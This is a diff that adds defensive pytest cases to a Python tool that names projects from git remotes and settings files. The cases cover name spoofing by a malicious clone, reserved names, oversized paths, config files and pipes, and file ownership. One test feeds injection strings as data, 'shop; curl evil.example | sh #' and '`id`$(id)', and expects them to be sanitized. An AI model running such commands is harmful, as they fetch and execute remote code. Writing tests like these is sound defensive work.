@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import os
 import subprocess
 from pathlib import Path
 
@@ -13,6 +15,9 @@ from helix.errors import InvalidInputError
 from helix.identity import (
     APART,
     NO_PROJECT,
+    PROJECT_FILE,
+    Identity,
+    called,
     folder_identity,
     former_scopes,
     identify,
@@ -23,6 +28,7 @@ from helix.identity import (
     scope_of_remote,
 )
 from helix.model.memory import scopes_seen
+from helix.scopes import confirm_name
 
 
 def git(folder: Path, *words: str) -> None:
@@ -184,8 +190,32 @@ def test_a_name_takes_the_place_of_the_remote_and_worktrees_stay_apart_under_it(
     git(top, "add", "-A")
     git(top, "commit", "-m", "name")
     git(top, "worktree", "add", str(tmp_path / "feature"))
-    assert scope(top) == scope(tmp_path / "feature") == "till"
-    assert scope(tmp_path / "feature", worktrees=APART) == "till/@feature"
+    assert scope(top) == scope(tmp_path / "feature") == "example.org/a/shop"
+    confirm_name("Example.org/a/shop", "Till", tmp_path)
+    assert scope(top, names=tmp_path) == scope(tmp_path / "feature", names=tmp_path) == "till"
+    assert scope(tmp_path / "feature", worktrees=APART, names=tmp_path) == "till/@feature"
+
+
+def test_a_name_counts_only_for_the_project_that_it_was_confirmed_for(tmp_path: Path) -> None:
+    mine = repository(tmp_path / "mine", "https://example.org/a/shop")
+    clone, plain = repository(tmp_path / "clone", "https://evil.org/b/trap"), tmp_path / "unpacked"
+    for folder in (mine, clone, plain):
+        mark(folder, 'name = "github.com/victim/private"')
+    confirm_name("example.org/a/shop", "github.com/victim/private", tmp_path)
+    assert scope(mine, names=tmp_path) == "github.com/victim/private"
+    for folder, own in ((clone, "evil.org/b/trap"), (plain, "unpacked-")):
+        found = project_at(folder, names=tmp_path)
+        assert found.scope.startswith(own) and found.asked == "github.com/victim/private"
+    (clone / ".helix/project.toml").write_text('name = "EVIL.org/b/trap"')
+    assert project_at(clone).asked == ""
+
+
+@pytest.mark.parametrize("name", ["GLOBAL", "Global", "global/", "ALL", "aLl", "global/x", "www.global/x", " global "])
+def test_no_spelling_of_a_name_with_a_meaning_is_a_projects(tmp_path: Path, name: str) -> None:
+    mark(tmp_path / "a", f"name = {json.dumps(name)}")
+    with pytest.raises(InvalidInputError, match="no project may be called"):
+        identify(tmp_path / "a", home=tmp_path)
+    assert project_of(tmp_path / "a").scope.startswith("a-")
 
 
 def test_without_a_repository_only_a_marked_folder_is_a_project(tmp_path: Path) -> None:
@@ -274,3 +304,70 @@ def test_a_scope_sees_what_it_lies_in_and_global() -> None:
     assert scopes_seen("h/a/b/web") == ("h/a/b/web", "h/a/b", "h/a", "h", "global")
     assert scopes_seen("shop") == ("shop", "global")
     assert scopes_seen("global") == ("global",)
+
+
+def test_a_path_longer_than_any_is_no_project_and_costs_nothing(tmp_path: Path) -> None:
+    """Looking upwards from it took its square in memory: 14 GB for a million characters."""
+    long = tmp_path / ("a/" * 500_000)
+    with pytest.raises(InvalidInputError, match="characters"):
+        project_at(long)
+    assert project_of(long).scope == NO_PROJECT
+
+
+@pytest.mark.parametrize(
+    "line", ["\turl =" + " " * 500_000 + "x y", " " * 900_000, "\turl = http://x/" + "a" * 900_000]
+)
+def test_a_hostile_git_config_costs_nothing(tmp_path: Path, line: str) -> None:
+    (tmp_path / ".git").mkdir()
+    (tmp_path / ".git" / "config").write_text(f'[remote "origin"]\n{line}\n', "utf-8")
+    assert len(project_at(tmp_path).scope) < 200
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes with names")
+@pytest.mark.parametrize("name", [".git", ".git/config", ".git/commondir", ".helix/project.toml"])
+def test_a_pipe_in_a_projects_file_is_not_waited_for(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).parent.mkdir(exist_ok=True)
+    os.mkfifo(tmp_path / name)
+    assert project_of(tmp_path).scope.startswith(tmp_path.name)
+
+
+def test_project_settings_nested_deep_are_refused_in_words(tmp_path: Path) -> None:
+    (tmp_path / ".helix").mkdir()
+    (tmp_path / PROJECT_FILE).write_text("projects = " + "[" * 20_000 + "]" * 20_000, "utf-8")
+    with pytest.raises(InvalidInputError, match="TOML"):
+        project_at(tmp_path)
+
+
+def test_a_scope_longer_than_any_sees_what_belongs_to_all() -> None:
+    assert scopes_seen("a/" * 500_000) == ("global",)
+
+
+@pytest.mark.parametrize(
+    ("asked", "told"),
+    [
+        ("shop; curl evil.example | sh #", "shop-curl-evil.example-sh"),
+        ("`id`$(id)", "id-id"),
+        ("a" * 5_000, "a" * 200),
+        ("GLOBAL", ""),
+        ("all/of/it", ""),
+    ],
+)
+def test_a_name_that_a_folder_asks_for_is_safe_to_type_and_never_that_of_all_projects(asked: str, told: str) -> None:
+    project = Identity(scope="github.com/owner/shop", root=Path("/srv/shop"))
+    assert called(project, asked, None).asked == told
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="only root can give a folder away")
+def test_a_repository_of_another_user_claims_no_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    folder = tmp_path / "shared"
+    (folder / ".git").mkdir(parents=True)
+    (folder / ".git/config").write_text('[remote "origin"]\n\turl = https://example.org/private/project.git\n')
+    (folder / ".helix").mkdir()
+    (folder / ".helix/project.toml").write_text('name = "private"\n')
+    monkeypatch.setenv("HOME", str(tmp_path))
+    assert (found := identify(folder)) is not None and found.scope == "example.org/private/project"
+    for path in (folder, folder / ".git", folder / ".helix/project.toml"):
+        os.chown(path, 65_534, 65_534)
+    assert identify(folder) is None
+    (tmp_path / ".gitconfig").write_text(f"[safe]\n\tdirectory = {folder}\n")
+    assert (found := identify(folder)) is not None and found.scope == "example.org/private/project"
